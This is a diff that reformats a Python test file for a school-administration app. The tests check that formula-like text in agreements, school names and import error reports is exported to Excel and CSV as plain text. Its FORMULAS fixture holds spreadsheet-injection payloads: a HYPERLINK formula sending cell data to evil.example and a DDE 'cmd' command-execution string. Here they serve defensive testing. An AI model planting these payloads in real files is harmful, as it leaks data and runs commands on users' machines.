@@ -1,5 +1,6 @@
 """Spreadsheets are inert: text someone typed (an agreement, a school name from an import) that
 begins like a formula is text in every Excel and CSV download; numbers stay numbers."""
+
 from __future__ import annotations
 
 import csv
@@ -18,8 +19,18 @@ from queries.scopes import scope_for_user
 
 BAKKE, YEAR = "900001", "2025/26"
 LEDER = Scope("ledelse", frozenset([BAKKE]))
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "=1+1", "+1+1", "-2+3", "@SUM(1+1)",
-            "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "#N/A"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "#N/A",
+]
 
 
 def _frame() -> pl.DataFrame:
@@ -62,22 +73,40 @@ def test_a_control_character_in_typed_text_does_not_break_the_excel_file():
 def hostile_runner(store_copy):
     """A talk whose agreements, and a school whose name, begin like formulas."""
     from queries.runner import runner_for
+
     runner = runner_for(store_copy)
     talk_id = talks.create_talk(runner, LEDER, "leder", BAKKE, YEAR, date(2026, 3, 10), "Aulaen", "standard")
-    runner.write("upsert_agreement", LEDER, "leder", [{
-        "school": BAKKE, "talk_id": talk_id, "agreement_id": f"{talk_id}-F{i}", "text": text, "owner": text,
-        "deadline": date(2026, 6, 1), "status": "ikke startet", "carried_from": None, "username": "leder"}
-        for i, text in enumerate(FORMULAS[:-3])])
+    runner.write(
+        "upsert_agreement",
+        LEDER,
+        "leder",
+        [
+            {
+                "school": BAKKE,
+                "talk_id": talk_id,
+                "agreement_id": f"{talk_id}-F{i}",
+                "text": text,
+                "owner": text,
+                "deadline": date(2026, 6, 1),
+                "status": "ikke startet",
+                "carried_from": None,
+                "username": "leder",
+            }
+            for i, text in enumerate(FORMULAS[:-3])
+        ],
+    )
 
     def imported(cur):
         cur.execute("UPDATE school SET name = ? WHERE institution_no = ?", [FORMULAS[0], BAKKE])
         store.bump_data_version(cur)
+
     runner.transaction(imported)
     return runner
 
 
 def test_the_season_excel_file_holds_typed_agreements_as_text(hostile_runner):
     from components import season_sections
+
     scope = scope_for_user({"role": "kommune", "municipality": "999"}, hostile_runner)
     frame = hostile_runner.run("season_talks", scope, school_year=YEAR)
     sheet = openpyxl.load_workbook(io.BytesIO(season_sections.workbook(frame, YEAR))).active
@@ -90,6 +119,7 @@ def test_the_season_excel_file_holds_typed_agreements_as_text(hostile_runner):
 
 def test_the_kommune_excel_and_csv_files_hold_a_formula_like_school_name_as_text(hostile_runner):
     from components import municipality_sections as sections
+
     scope = scope_for_user({"role": "kommune", "municipality": "999"}, hostile_runner)
     frame = sections.load(hostile_runner, scope, "999", [YEAR])
     country = hostile_runner.run("national_reference_values", scope, years=[YEAR])
@@ -106,15 +136,18 @@ def test_the_kommune_excel_and_csv_files_hold_a_formula_like_school_name_as_text
 
 def test_the_import_error_report_csv_holds_a_formula_like_value_as_text(monkeypatch):
     from components import import_sections
+
     captured = {}
     monkeypatch.setattr(import_sections.st, "download_button", lambda label, data, **kw: captured.update(data=data))
     monkeypatch.setattr(import_sections.st, "error", lambda *a, **kw: None)
     monkeypatch.setattr(import_sections.st, "dataframe", lambda *a, **kw: None)
-    problems = pl.DataFrame({"file": ["elever.csv"], "line": [3], "column": ["Navn"], "value": ["=1+1"],
-                             "message": ["Ukendt klasse"]})
+    problems = pl.DataFrame(
+        {"file": ["elever.csv"], "line": [3], "column": ["Navn"], "value": ["=1+1"], "message": ["Ukendt klasse"]}
+    )
 
     class Prepared:
         ok, file_name, sha256, rows, good_rows, problem_count = False, "elever.csv", "x", 1, 0, 1
+
     Prepared.problems = problems
     import_sections.problems(Prepared())
     rows = list(csv.reader(io.StringIO(captured["data"].decode("utf-8-sig"), newline=""), delimiter=";"))
